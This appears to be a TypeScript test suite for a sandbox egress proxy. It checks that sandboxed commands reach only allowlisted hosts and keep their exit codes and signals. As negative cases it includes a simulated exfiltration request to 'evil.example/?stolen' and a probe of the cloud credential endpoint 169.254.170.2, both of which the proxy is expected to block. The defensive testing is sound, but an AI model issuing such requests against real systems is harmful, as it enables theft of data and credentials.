import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type EgressProxy, openEgressProxy } from '../../../src/execution/egress/egress-proxy.ts';
import { viewMachine } from '../../../src/execution/sandbox/machine-view.ts';
import { openSandbox } from '../../../src/execution/sandbox/open-sandbox.ts';
import { letPass, type Rung } from '../../../src/execution/sandbox/rung.ts';
import { defaultLimits } from '../../../src/execution/sandbox/sandbox-limits.ts';
import type { Sandbox, SandboxCommand } from '../../../src/ports/sandbox.ts';
import { fakeInternet } from '../../support/fake-internet.ts';

/** What a command that may use the proxy reaches, on every rung. */
export function describeEgress(rung: Rung): void {
  describe(`the way out of sandbox rung ${rung.name}`, () => {
    const root = realpathSync(mkdtempSync(join(tmpdir(), 'egress-')));
    const workspace = join(root, 'workspace');
    mkdirSync(workspace);
    if (rung.otherUser === true) letPass(root);
    const origin = createServer((_, answer) => answer.end('from the registry'));
    let proxy: EgressProxy;
    let sandbox: Sandbox;
    before(async () => {
      await once(origin.listen(0, '127.0.0.1'), 'listening');
      const { port } = origin.address() as AddressInfo;
      proxy = await openEgressProxy({
        hosts: ['registry.example'],
        folder: join(root, 'egress'),
        password: 'guess-me',
        reach: fakeInternet({ 'registry.example': { addresses: ['198.51.100.7'], port } }),
      });
      const view = viewMachine(process.env.PATH ?? '', dirname(process.execPath));
      const place = { visible: [workspace], scratch: join(root, 'scratch'), view, limits: defaultLimits };
      sandbox = openSandbox(rung, { ...place, egress: proxy }, { now: Date.now });
    });
    after(async () => {
      await proxy.close();
      origin.close();
      rmSync(root, { recursive: true, force: true });
    });
    const run = (argv: string[], change: Partial<SandboxCommand> = {}) =>
      sandbox.run({
        argv,
        cwd: workspace,
        writable: [workspace],
        environment: {},
        timeoutMs: 20_000,
        outputCapBytes: 65_536,
        network: 'egress',
        ...change,
      });
    const visit = (url: string) =>
      `const ask = require('node:http').request(process.env.http_proxy, { path: '${url}', headers: { host: 'x', 'proxy-authorization': 'Basic ' + Buffer.from(decodeURIComponent(new URL(process.env.http_proxy).username + ':' + new URL(process.env.http_proxy).password)).toString('base64') } }, (answer) => { answer.pipe(process.stdout); }).end();
       ask.on('error', (error) => console.log(error.code));`;

    it('leads to listed hosts and to no other', async () => {
      const reached = await run(['node', '-e', visit('http://registry.example/')]);
      assert.equal(reached.output, 'from the registry');
      assert.match(
        (await run(['node', '-e', visit('http://evil.example/?stolen')])).output,
        /host-not-listed/,
      );
      assert.match((await run(['node', '-e', visit('http://169.254.170.2/v2')])).output, /host-not-listed/);
      assert.deepEqual(proxy.blockedHosts(), ['evil.example', '169.254.170.2']);
    });

    it('is told to commands that may use it, and to no other', async () => {
      assert.match((await run(['env'])).output, /^https_proxy=http:\/\/job:guess-me@127\.0\.0\.1:\d+$/m);
      assert.doesNotMatch((await run(['env'], { network: 'none' })).output, /proxy|guess-me/i);
    });

    it('is closed for commands without it', { skip: rung.protection.network === 'machine' }, async () => {
      const script = `require('node:net').connect(3128, '127.0.0.1').on('error', (error) => console.log(error.code)); require('node:fs').existsSync('/egress') && console.log('there');`;
      assert.equal((await run(['node', '-e', script], { network: 'none' })).output, 'ECONNREFUSED\n');
    });

    it('changes neither how a command ends nor what it is given', async () => {
      assert.equal((await run(['/bin/sh', '-c', 'exit 7'])).exitCode, 7);
      assert.equal((await run(['/bin/sh', '-c', 'kill -SEGV $$'])).signal, 'SIGSEGV');
      assert.equal((await run(['no-such-program'])).exitCode, 127);
      assert.equal((await run(['cat'], { stdin: 'given' })).output, 'given');
      const ended = await run(
        ['/bin/sh', '-c', 'trap "echo polite; exit 3" TERM; while :; do sleep 0.02; done'],
        {
          timeoutMs: 1_500,
        },
      );
      assert.match(ended.output, /polite/);
      assert.equal(ended.timedOut, true);
    });
  });
}
